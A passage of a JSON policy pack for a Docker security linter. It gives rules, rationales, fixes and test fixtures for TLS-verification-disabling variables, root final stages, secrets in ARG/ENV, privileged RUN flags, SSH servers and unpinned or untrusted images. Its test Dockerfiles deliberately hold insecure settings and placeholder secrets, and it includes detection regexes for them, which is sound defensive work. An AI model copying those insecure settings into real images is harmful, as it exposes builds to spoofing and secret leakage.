image","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["ENV","ARG","RUN"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"disablingVariable"}}}}}}}}}},"message":"`{{value}}` turns off TLS certificate verification for every tool that reads it in stage {{name}} (and, with ENV, in every container started from the image), so a spoofed server can feed it code or data. Remove it and install the CA certificate the tools need instead.","rationale":"`NODE_TLS_REJECT_UNAUTHORIZED=0`, `GIT_SSL_NO_VERIFY`, `PYTHONHTTPSVERIFY=0`, `NPM_CONFIG_STRICT_SSL=false` and `PIP_TRUSTED_HOST` disable certificate checks for every connection the program makes. In a RUN or ARG they open the build to man-in-the-middle package substitution; in an ENV they are baked into the image and silently weaken the application at run time too. The CIS Docker Benchmark (4.11) asks that only verified packages be installed.","remediation":"Trust the certificate instead of turning verification off:\\n\\n```dockerfile\\nCOPY corp-root-ca.crt /usr/local/share/ca-certificates/corp-root-ca.crt\\nRUN update-ca-certificates\\nENV NODE_EXTRA_CA_CERTS=/usr/local/share/ca-certificates/corp-root-ca.crt\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#env"}],"params":{"disablingVariable":"^(NODE_TLS_REJECT_UNAUTHORIZED=0|NODE_TLS_REJECT_UNAUTHORIZED|GIT_SSL_NO_VERIFY(=.*)?|PYTHONHTTPSVERIFY=0|PYTHONHTTPSVERIFY|(NPM_CONFIG_STRICT_SSL|npm_config_strict_ssl)=false|PIP_TRUSTED_HOST(=.*)?)$"},"paramSchemas":{"disablingVariable":{"schema":{"type":"string","format":"regex","minLength":1},"description":"`NAME=value` words (ENV, ARG, or an assignment in a RUN) that switch verification off for Node.js, Git, Python, npm and pip; the bare names cover the legacy `ENV NAME value` form."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nENV NODE_ENV=production NODE_TLS_REJECT_UNAUTHORIZED=0\\nENV GIT_SSL_NO_VERIFY 1\\nRUN PIP_TRUSTED_HOST=pypi.example.com pip install internal-lib==1.0\\n","expect":[{"line":2,"column":25,"endLine":2,"endColumn":55},{"line":3,"column":5,"endLine":3,"endColumn":22},{"line":4,"column":5,"endLine":4,"endColumn":38}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nCOPY corp-root-ca.crt /usr/local/share/ca-certificates/\\nRUN update-ca-certificates\\nENV NODE_EXTRA_CA_CERTS=/usr/local/share/ca-certificates/corp-root-ca.crt NODE_TLS_REJECT_UNAUTHORIZED=1\\n","expect":[]}],"source":"policies/docker/dockerfile-env-disables-tls-verification.yaml"},{"id":"dockerfile-final-stage-root","pack":"docker","title":"Image\'s final stage runs as root","severity":"medium","subject":"dockerfile.stage","when":{"properties":{"isFinal":{"const":true}}},"schema":{"required":["user"],"properties":{"user":{"not":{"pattern":{"$param":"rootUser"}}}}},"message":"The final stage ({{name}}) runs the image\'s process as root: it has no USER instruction, or its USER is root or 0, so whoever exploits the application is root inside the container. Create an unprivileged user and add `USER <name or uid>` at the end of the final stage.","rationale":"A container process that runs as root keeps every capability Docker grants by default, can rewrite the whole image filesystem, and is root on the host if it escapes through a kernel or runtime vulnerability or a careless mount. Most applications need no root at all at run time. Without a USER instruction an image runs as its base image\'s user, which is root for most official base images; USER is inherited from a stage named in FROM, so a final stage built on a non-root stage passes. The CIS Docker Benchmark and the OWASP cheat sheet both ask that images define a non-root user. Severity is medium: some base images already set a non-root user that this Dockerfile cannot show, and such a finding can be suppressed with that reason.","remediation":"Create a user (a fixed UID keeps file ownership predictable) and switch to it after the steps\\nthat need root:\\n\\n```dockerfile\\nFROM node:22-bookworm-slim\\nWORKDIR /app\\nCOPY --chown=10001:10001 . .\\nRUN groupadd --system --gid 10001 app \\\\\\n && useradd --system --uid 10001 --gid app --no-log-init app\\nUSER 10001:10001\\nCMD [\\"node\\", \\"server.js\\"]\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.1"},{"framework":"owasp-docker","id":"RULE #2"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#user"}],"params":{"rootUser":"^\\\\s*(root|0+)(:.*|\\\\s*)$"},"paramSchemas":{"rootUser":{"schema":{"type":"string","format":"regex","minLength":1},"description":"The user part names root (by name or UID 0), whatever group follows."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-bookworm-slim\\nWORKDIR /app\\nCOPY . .\\nCMD [\\"node\\", \\"server.js\\"]\\n","expect":[{"line":1,"column":6,"endLine":1,"endColumn":27}]},{"file":"Dockerfile","content":"FROM golang:1.23 AS build\\nUSER 10001\\nRUN go build -o /out/app ./...\\n\\nFROM build AS runtime\\nUSER root\\nRUN apt-get update && apt-get install -y ca-certificates\\nUSER 0:0\\nENTRYPOINT [\\"/out/app\\"]\\n","expect":[{"line":8,"column":1,"endLine":8,"endColumn":9}]},{"file":"Dockerfile","content":"FROM python:3.12-slim AS base\\nRUN useradd --uid 10001 app\\nUSER root:app\\n\\nFROM base\\nCOPY app.py /app.py\\nCMD [\\"python\\", \\"/app.py\\"]\\n","expect":[{"line":3,"column":1,"endLine":3,"endColumn":14}]},{"file":"Dockerfile","content":"FROM python:3.12-slim AS base\\nRUN useradd --uid 10001 app\\nUSER app\\n\\nFROM base AS final\\nCOPY --chown=app app.py /app.py\\nCMD [\\"python\\", \\"/app.py\\"]\\n","expect":[]},{"file":"Dockerfile","content":"ARG APP_UID=10001\\nFROM rust:1.82 AS build\\nRUN cargo build --release\\n\\nFROM gcr.io/distroless/cc-debian12:nonroot\\nCOPY --from=build /target/release/app /app\\nUSER ${APP_UID}\\nENTRYPOINT [\\"/app\\"]\\n","expect":[]},{"file":"Dockerfile","content":"FROM alpine:3.20 AS build\\nRUN echo build\\n\\nFROM alpine:3.20\\nRUN adduser -D -u 10001 app\\nUSER app\\nRUN echo done\\nUSER root\\n","expect":[{"line":8,"column":1,"endLine":8,"endColumn":10}]}],"source":"policies/docker/dockerfile-final-stage-root.yaml"},{"id":"dockerfile-no-healthcheck","pack":"docker","title":"Image has no HEALTHCHECK","severity":"low","subject":"dockerfile.stage","when":{"properties":{"isFinal":{"const":true}}},"schema":{"required":["healthcheck"],"properties":{"healthcheck":{"properties":{"disable":{"const":false}}}}},"message":"The final stage ({{name}}) defines no working HEALTHCHECK (none is set, or `HEALTHCHECK NONE` switches the base image\'s off), so Docker cannot tell a hung container from a healthy one. Add one that probes the service, e.g. `HEALTHCHECK CMD [\\"/app/healthcheck\\"]`.","rationale":"A HEALTHCHECK in the image travels with it to every place it runs: Docker marks the container unhealthy when the probe fails, Compose can wait for `service_healthy`, and Swarm replaces the task. Without one, a deadlocked or degraded service looks as \\"running\\" as a healthy one. The CIS Docker Benchmark (4.6) asks that images carry a HEALTHCHECK instruction. Images that only ever run under Kubernetes (which ignores it and uses probes instead) may suppress this with that reason. A Compose `healthcheck:` on the service also satisfies container-no-healthcheck.","remediation":"Add a probe to the final stage. For an image without a shell, ship a small probe binary:\\n\\n```dockerfile\\nFROM gcr.io/distroless/static-debian12:nonroot\\nCOPY --from=build /out/app /out/healthcheck /\\nHEALTHCHECK --interval=30s --timeout=3s --retries=3 CMD [\\"/healthcheck\\"]\\nENTRYPOINT [\\"/app\\"]\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.6"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#healthcheck"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM golang:1.23 AS build\\nRUN go build -o /out/app ./...\\n\\nFROM gcr.io/distroless/static-debian12:nonroot\\nCOPY --from=build /out/app /app\\nENTRYPOINT [\\"/app\\"]\\n","expect":[{"line":4,"column":6,"endLine":4,"endColumn":47}]},{"file":"Dockerfile","content":"FROM nginx:1.27 AS base\\nHEALTHCHECK CMD curl -f http://localhost/ || exit 1\\n\\nFROM base\\nHEALTHCHECK NONE\\n","expect":[{"line":5,"column":1,"endLine":5,"endColumn":17}]},{"file":"Dockerfile","content":"FROM python:3.12-slim AS base\\nHEALTHCHECK --interval=30s CMD [\\"python\\", \\"-c\\", \\"import urllib.request as u; u.urlopen(\'http://localhost:8000/health\')\\"]\\n\\nFROM base\\nCOPY app.py /app/app.py\\nCMD [\\"python\\", \\"/app/app.py\\"]\\n","expect":[]}],"source":"policies/docker/dockerfile-no-healthcheck.yaml"},{"id":"dockerfile-run-insecure-options","pack":"docker","title":"RUN step asks for an insecure sandbox or the host network","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"properties":{"flags":{"properties":{"security":{"items":{"not":{"const":"insecure"}}},"network":{"items":{"not":{"const":"host"}}}}}}}}}},"message":"This RUN in stage {{name}} lifts the build sandbox (`{{value}}`): `--security=insecure` runs the step like a privileged container, and `--network=host` lets it reach everything the build host can. Remove the flag; move work that truly needs it out of the image build.","rationale":"BuildKit runs every RUN step in a sandbox with its own network and the default seccomp and AppArmor confinement. `RUN --security=insecure` (entitlement `security.insecure`) runs the step with full privileges, like `--privileged`, so a compromised dependency installed in that step can take over the builder, which on CI often holds credentials and caches for other builds. `RUN --network=host` (entitlement `network.host`) gives the step the builder host\'s network, including services bound to its localhost and cloud metadata endpoints. Both need an explicit entitlement from whoever runs the build, which is exactly what a reviewer should see asked for.","remediation":"Remove the flag. Steps that need network access use the default sandboxed network; steps that\\nneed privileges (loop devices, mounts) belong in a CI job step, not in the Dockerfile:\\n\\n```dockerfile\\nRUN --mount=type=cache,target=/root/.cache/go-build go build -o /out/app ./...\\n```","references":[{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#run---security"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#run---network"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1-labs\\nFROM alpine:3.20\\nRUN --security=insecure mount -t tmpfs none /mnt\\nRUN --network=host wget -qO- http://localhost:8080/assets.tar | tar -x\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":24},{"line":4,"column":5,"endLine":4,"endColumn":19}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM alpine:3.20\\nRUN --network=none ./offline-tests.sh\\nRUN --security=sandbox --mount=type=cache,target=/var/cache/apk apk add git\\n","expect":[]}],"source":"policies/docker/dockerfile-run-insecure-options.yaml"},{"id":"dockerfile-secret-in-arg-or-env","pack":"docker","title":"Secret passed through ARG or ENV","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["ARG","ENV"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"secretName"}}}}}}}}}},"message":"Stage {{name}} passes a secret-looking variable through ARG or ENV; its value stays readable in the image\'s history and metadata (and, with ENV, in every container), for anyone who can pull the image. Use a build secret instead: `RUN --mount=type=secret,id=\u2026,env=\u2026`.","rationale":"Build arguments are recorded in the image\'s build history (and in provenance attestations), and ENV values are part of the image configuration: `docker history` and `docker inspect` show them to everyone who can pull the image, and multi-stage builds do not help when the variable is set in the final stage. BuildKit\'s SecretsUsedInArgOrEnv check, the CIS Docker Benchmark (4.10) and the OWASP cheat sheet (rule 12) ask that secrets be handed to the build with secret mounts, which leave nothing behind in the image.","remediation":"Mount the secret for the one RUN that needs it:\\n\\n```dockerfile\\n# syntax=docker/dockerfile:1\\nRUN --mount=type=secret,id=npm_token,env=NPM_TOKEN \\\\\\n    npm ci --omit=dev\\n```\\n\\nand pass it at build time with `docker build --secret id=npm_token,env=NPM_TOKEN .` (or the\\n`secrets:` input of docker/build-push-action).","references":[{"framework":"cis-docker","id":"1.6.0:4.10"},{"framework":"owasp-docker","id":"RULE #12"},{"framework":"docker-build-check","id":"SecretsUsedInArgOrEnv"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/secrets-used-in-arg-or-env/"},{"framework":"url","url":"https://docs.docker.com/build/building/secrets/"}],"params":{"secretName":"^(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?(?<!(?:^|_)(?:PUBLIC|public|Public)(?:_[A-Za-z0-9_]*)?)(?<!_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type))(?:=|$)"},"paramSchemas":{"secretName":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A variable name with a secret-looking token (BuildKit\'s SecretsUsedInArgOrEnv list: apikey, auth, credential(s), key, password, pword, passwd, secret, token, plus pass) between underscores or at either end, optionally followed by `=value`. PUBLIC names and names that point at a file, a place or an account (`_FILE`, `_PATH`, `_URL`, `_ID`, \u2026) are left out."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nARG NPM_TOKEN\\nENV NODE_ENV=production API_KEY=sk_live_123\\nARG AWS_SECRET_ACCESS_KEY\\nRUN npm ci\\n","expect":[{"line":2,"column":5,"endLine":2,"endColumn":14},{"line":3,"column":25,"endLine":3,"endColumn":44},{"line":4,"column":5,"endLine":4,"endColumn":26}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nARG NODE_VERSION=22\\nENV PUBLIC_KEY_URL=https://keys.example.com/pub.asc MONKEY=banana\\nENV POSTGRES_PASSWORD_FILE=/run/secrets/db_password\\nRUN --mount=type=secret,id=npm_token,env=NPM_TOKEN npm ci\\n","expect":[]}],"source":"policies/docker/dockerfile-secret-in-arg-or-env.yaml"},{"id":"dockerfile-ssh-server","pack":"docker","title":"Image installs, runs or exposes an SSH server","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"expose":{"items":{"not":{"pattern":{"$param":"sshPort"}}}},"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["RUN","CMD","ENTRYPOINT"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"sshServer"}}}}}}}}}},"message":"Stage {{name}} sets up an SSH server (`{{value}}`), which adds a network login, keys or passwords to manage, and a long-running root daemon to every container of this image. Remove it and use `docker exec` (or `kubectl exec`) to get a shell in a running container.","rationale":"An SSH daemon in a container is a second way in that bypasses Docker\'s access control: it needs host keys and credentials baked into the image or managed per container, it usually runs as root, and it is one more service to patch. Docker already provides an authenticated way to run a shell in a container. The CIS Docker Benchmark (5.7) asks that sshd not run within containers.","remediation":"Drop the SSH server, the port and the keys, and get a shell through Docker instead:\\n\\n```sh\\ndocker exec -it <container> sh\\ndocker cp <container>:/var/log/app.log .\\n```\\n\\nFor files the service produces, use a volume. If remote access is a product feature (a Git\\nserver, a bastion), run it as a dedicated, hardened service rather than inside an application\\nimage.","references":[{"framework":"cis-docker","id":"1.6.0:5.7"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/exec/"}],"params":{"sshServer":"^(openssh-server|openssh|dropbear|(/usr/sbin/)?sshd)$","sshPort":"^22(/tcp)?$"},"paramSchemas":{"sshServer":{"schema":{"type":"string","format":"regex","minLength":1},"description":"Package names and programs of SSH servers, as words of RUN, CMD and ENTRYPOINT."},"sshPort":{"schema":{"type":"string","format":"regex","minLength":1},"description":"An EXPOSE entry that publishes the SSH port."}},"tests":[{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nRUN apt-get update && apt-get install -y --no-install-recommends openssh-server \\\\\\n && rm -rf /var/lib/apt/lists/*\\nEXPOSE 22 8080\\nCMD [\\"/usr/sbin/sshd\\", \\"-D\\"]\\n","expect":[{"line":2,"column":66,"endLine":2,"endColumn":80},{"line":4,"column":8,"endLine":4,"endColumn":10},{"line":5,"column":6,"endLine":5,"endColumn":22}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nRUN apk add --no-cache openssh-client git\\nEXPOSE 8080/tcp 2222\\nCMD [\\"ssh\\", \\"-V\\"]\\n","expect":[]}],"source":"policies/docker/dockerfile-ssh-server.yaml"},{"id":"image-from-variable","pack":"docker","title":"Image reference cannot be verified (built from an unresolved variable)","severity":"info","subject":"image","when":{"not":{"properties":{"origin":{"const":"compose-service"}}}},"schema":{"properties":{"isVariable":{"const":false}}},"message":"`{{subject.ref}}` is filled in from a variable at run time, so no rule here can tell which image runs, whether it is pinned or where it comes from. Give the variable a pinned default (e.g. `${IMAGE:-ghcr.io/example/app:1.4.2@sha256:\u2026}`, `ARG BASE=\u2026`), or write the reference out.","rationale":"Tag, digest and registry rules judge the reference as written. When it is a variable without a default (a Dockerfile `ARG` without a value, a workflow `${{ inputs.image }}` or `$IMAGE` in a script), whoever sets the variable chooses the image, and a reviewer of this file cannot see it. That is sometimes the point (a matrix over database versions), so the rule is informational: it marks the places the other image rules could not check.","remediation":"Give the variable a default that satisfies the image rules, so the file says what runs unless\\nsomeone deliberately overrides it:\\n\\n```dockerfile\\nARG BASE_IMAGE=python:3.12-slim@sha256:<digest>\\nFROM ${BASE_IMAGE}\\n```\\n\\n```yaml\\nservices:\\n  app:\\n    image: ${APP_IMAGE:-ghcr.io/example/app:1.4.2}\\n```","references":[{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#understand-how-arg-and-from-interact"},{"framework":"url","url":"https://docs.docker.com/compose/how-tos/environment-variables/variable-interpolation/"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"ARG BASE_IMAGE\\nFROM ${BASE_IMAGE}\\nRUN echo hi\\n","expect":[{"line":2,"column":6,"endLine":2,"endColumn":19}]},{"file":"Dockerfile","content":"ARG BASE_IMAGE=python:3.12-slim\\nFROM ${BASE_IMAGE}\\nRUN echo hi\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: ${{ inputs.image }}\\n    steps:\\n      - run: docker run --rm \\"$TOOL_IMAGE\\" --version\\n","expect":[{"line":5,"column":5,"endLine":5,"endColumn":35},{"line":7,"column":14,"endLine":7,"endColumn":53}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    steps:\\n      - uses: docker://alpine:3.20\\n      - run: docker run --rm ghcr.io/example/tool:1.2.0 --version\\n","expect":[]}],"source":"policies/docker/image-from-variable.yaml"},{"id":"image-latest-tag","pack":"docker","title":"Image uses the latest tag or no tag","severity":"medium","subject":"image","when":{"properties":{"isVariable":{"const":false}}},"schema":{"properties":{"isLatest":{"const":false}}},"message":"`{{subject.ref}}` has no tag or the `latest` tag, so every pull may bring a different image and nobody can tell from this file which one ran. Name a version tag, such as `nginx:1.27`, and preferably its digest too.","rationale":"`latest` is only a default name, not a promise of the newest or of any stable version, and a reference without a tag means `latest`. Builds and deployments that use it change behaviour without a change in the repository, cannot be reproduced or rolled back, and may silently pick up a broken or compromised image. Docker\'s build best practices ask to pin base image versions, and the CIS Docker Benchmark asks that the image version in use be known and kept current.","remediation":"Write the version you have tested; add the digest to make it immutable (and let Dependabot or\\nRenovate keep both current):\\n\\n```dockerfile\\nFROM node:22.11-bookworm-slim\\n```\\n\\n```yaml\\nservices:\\n  cache:\\n    image: redis:7.4.1\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.28"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#pin-base-image-versions"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx\\n  cache:\\n    image: \\"redis:latest\\"\\n  db:\\n    image: postgres:16\\n  app:\\n    image: ${APP_IMAGE:-ghcr.io/example/app}\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":17},{"line":5,"column":5,"endLine":5,"endColumn":26},{"line":9,"column":5,"endLine":9,"endColumn":45}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n  proxy:\\n    image: \\"${PROXY_IMAGE:-traefik:v3.1}\\"\\n  registry:\\n    image: localhost:5000/team/app:2.1.0\\n","expect":[]},{"file":"Dockerfile","content":"ARG BASE=python:latest\\nFROM golang AS build\\nRUN go build -o /out/app ./...\\n\\nFROM ${BASE}\\nCOPY --from=build /out/app /usr/local/bin/app\\n","expect":[{"line":2,"column":6,"endLine":2,"endColumn":12},{"line":5,"column":6,"endLine":5,"endColumn":13}]},{"file":"Dockerfile","content":"ARG NODE_IMAGE\\nFROM node:22-bookworm-slim AS deps\\nRUN npm ci\\n\\nFROM deps AS test\\nRUN npm test\\n\\nFROM ${NODE_IMAGE}\\nCOPY --from=deps /app /app\\n\\nFROM scratch\\nCOPY --from=deps /app /app\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node\\n    services:\\n      redis:\\n        image: redis:latest\\n      db:\\n        image: ${{ matrix.db }}\\n    steps:\\n      - uses: docker://alpine\\n      - run: docker run --rm -v \\"$PWD:/src\\" hadolint/hadolint hadolint /src/Dockerfile\\n","expect":[{"line":5,"column":5,"endLine":5,"endColumn":20},{"line":8,"column":9,"endLine":8,"endColumn":28},{"line":12,"column":9,"endLine":12,"endColumn":30},{"line":13,"column":14,"endLine":13,"endColumn":87}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    steps:\\n      - uses: docker://alpine:3.20\\n      - run: |\\n          docker run --rm \\"${IMAGE}\\" true\\n          docker run --rm ghcr.io/example/tool:1.2.0 true\\n","expect":[]}],"source":"policies/docker/image-latest-tag.yaml"},{"id":"image-not-pinned-by-digest","pack":"docker","title":"Image is not pinned by digest","severity":"low","subject":"image","when":{"properties":{"isVariable":{"const":false}}},"schema":{"required":["digest"],"properties":{"digest":{"pattern":{"$param":"digest"}}}},"message":"`{{subject.ref}}` is not pinned by a full `@sha256:` digest, so the registry can serve different content under this name at any time and this file does not say which image actually runs. Append the digest, e.g. `nginx:1.27@sha256:<digest>`, and let Dependabot or Renovate keep it current.","rationale":"Tags are mutable pointers: a publisher (or anyone who takes over the publisher\'s account or registry) can push new content under an existing tag, and the next pull or build uses it without any change in the repository. A `@sha256:` digest names the exact content and is checked by Docker on pull, which makes builds reproducible and a swapped image detectable. Docker\'s build best practices and the OWASP cheat sheet\'s supply-chain guidance recommend pinning by digest; OpenSSF Scorecard checks it. The rule is low severity because it concerns nearly every image in a typical repository; raise it where the supply chain matters most.","remediation":"Keep the tag for readers and add the digest it currently resolves to\\n(`docker buildx imagetools inspect nginx:1.27` prints it):\\n\\n```dockerfile\\nFROM nginx:1.27@sha256:<64 hex digits>\\n```\\n\\n```yaml\\nservices:\\n  web:\\n    image: nginx:1.27@sha256:<64 hex digits>\\n```\\n\\nDependabot (`package-ecosystem: docker`) and Renovate update pinned digests through pull\\nrequests, so pinning does not mean falling behind on security fixes.","references":[{"framework":"owasp-docker","id":"RULE #13"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#pin-base-image-versions"}],"params":{"digest":"^sha256:[0-9a-f]{64}$"},"paramSchemas":{"digest":{"schema":{"type":"string","format":"regex","minLength":1},"description":"What a pinned digest looks like."}},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n  cache:\\n    image: redis@sha256:0123\\n  db:\\n    image: postgres:16@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n  app:\\n    image: ${APP_IMAGE:-ghcr.io/example/app:1.4.2}\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":22},{"line":5,"column":5,"endLine":5,"endColumn":29},{"line":9,"column":5,"endLine":9,"endColumn":51}]},{"file":"compose.yaml","content":"x-image: &image\\n  image: ghcr.io/example/app:1.4.2@sha256:89abcdef0123456789abcdef0123456789abcdef0123456789abcdef01234567\\nservices:\\n  app:\\n    <<: *image\\n  worker:\\n    <<: *image\\n    command: [\\"worker\\"]\\n","expect":[]},{"file":"Dockerfile","content":"ARG GO_VERSION=1.23\\nFROM golang:${GO_VERSION} AS build\\nRUN go build -o /out/app ./...\\n\\nFROM build AS test\\nRUN go test ./...\\n\\nFROM gcr.io/distroless/static-debian12@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\nCOPY --from=build /out/app /app\\n","expect":[{"line":2,"column":6,"endLine":2,"endColumn":26}]},{"file":"Dockerfile","content":"ARG BASE_IMAGE\\nFROM ${BASE_IMAGE} AS base\\nFROM base\\nFROM scratch\\nCOPY --from=base /etc/ssl/certs /etc/ssl/certs\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      db:\\n        image: ${{ matrix.db }}\\n    steps:\\n      - uses: docker://ghcr.io/example/linter:2.0.0\\n      - run: |\\n          docker run --rm ghcr.io/example/tool@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef true\\n          docker run --rm alpine:3.20 true\\n","expect":[{"line":6,"column":7,"endLine":6,"endColumn":21},{"line":11,"column":9,"endLine":11,"endColumn":52},{"line":14,"column":11,"endLine":14,"endColumn":43}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n    steps:\\n      - uses: docker://alpine:3.20@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n      - run: docker run --rm \\"$IMAGE\\" true\\n","expect":[]}],"source":"policies/docker/image-not-pinned-by-digest.yaml"},{"id":"image-untrusted-registry","pack":"docker","title":"Image comes from a registry that is not on the trusted list","severity":"low","subject":"image","when":{"properties":{"isVariable":{"const":false}}},"schema":{"properties":{"registry":{"enum":{"$param":"trustedRegistries"}}}},"message":"`{{subject.ref}}` is pulled from `{{value}}`, which is not one of the registries this repository trusts, so nobody has agreed to run code from it. Use an image from a trusted registry or mirror, or add the registry to the `trustedRegistries` parameter after review.","rationale":"An image runs with whatever code its registry serves. A typo-squatted host, an abandoned personal registry or an unauthenticated internal mirror can serve a tampered image under a familiar name, and scanning and signing policies usually apply only to the registries an organisation controls. The CIS Docker Benchmark (4.2) asks that containers use only trusted base images. The `trustedRegistries` parameter lists the hosts accepted; the default accepts Docker Hub, GitHub\'s registry, the registries Microsoft, Google, Kubernetes, AWS, Chainguard and Elastic serve their own images from, and a local registry. Other community registries (quay.io, \u2026) are reported until a team adds them.","remediation":"Pull the image through a registry you trust (your own, or a mirror of the public one), or add\\nthe registry to the list in `.github/containment.yml`:\\n\\n```yaml\\nparams:\\n  image-untrusted-registry:\\n    trustedRegistries: [registry.example.com, ghcr.io]\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.2"},{"framework":"url","url":"https://docs.docker.com/docker-hub/image-library/trusted-content/"}],"params":{"trustedRegistries":["docker.io","ghcr.io","mcr.microsoft.com","gcr.io","registry.k8s.io","public.ecr.aws","cgr.dev","docker.elastic.co","localhost","localhost:5000"]},"paramSchemas":{"trustedRegistries":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Registry hosts (as Docker resolves them: `docker.io` for Docker Hub) images may be pulled from. The default is Docker Hub, GitHub\'s registry (where actions and this repository\'s own images usually live), and the registries that vendors serve their own images from; a local registry. Replace the list with your organisation\'s registries and mirrors."}},"tests":[{"file":"compose.yaml","content":"services:\\n  app:\\n    image: registry.example.net/team/app:1.4.2\\n  web:\\n    image: nginx:1.27\\n  cache:\\n    image: ghcr.io/example/cache:2.0.0\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":47}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: docker.io/library/nginx:1.27\\n  tool:\\n    image: registry.k8s.io/pause:3.10\\n  local:\\n    image: localhost:5000/app:dev\\n","expect":[]},{"file":"Dockerfile","content":"FROM registry.example.net/base/python:3.12 AS build\\nRUN pip wheel -w /wheels .\\nFROM python:3.12-slim\\nCOPY --from=build /wheels /wheels\\n","expect":[{"line":1,"column":6,"endLine":1,"endColumn":43}]},{"file":"Dockerfile","content":"ARG REGISTRY\\nFROM ${REGISTRY}/base/python:3.12\\nFROM mcr.microsoft.com/dotnet/aspnet:8.0\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: registry.example.net/ci/node:22\\n    steps:\\n      - uses: docker://registry.example.net/tools/lint:1.0.0\\n      - run: docker run --rm ghcr.io/example/tool:1.2.0 true\\n","expect":[{"line":5,"column":5,"endLine":5,"endColumn":47},{"line":7,"column":9,"endLine":7,"endColumn":61}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      db:\\n        image: ${{ matrix.db }}\\n    steps:\\n      - uses: docker://ghcr.io/example/linter:2.0.0\\n","expect":[]}],"source":"policies/docker/image-untrusted-registry.yaml"}],"source":"policies/docker"},{"id":"dockerfile-hygiene","title":"Dockerfile build hygiene","description":"Docker\'s build best practices and build checks, and the CIS Docker Benchmark\'s image-build items that are about maintainability more than attack surface: package manager use, ADD versus COPY, WORKDIR, CMD and ENTRYPOINT form, deprecated instructions. Findings are low or informational; they make images smaller, reproducible and predictable rather than close a hole.","version":"0.1.0","rules":[{"id":"command-apt-install-recommends","pack":"dockerfile-hygiene","title":"apt installs recommended packages 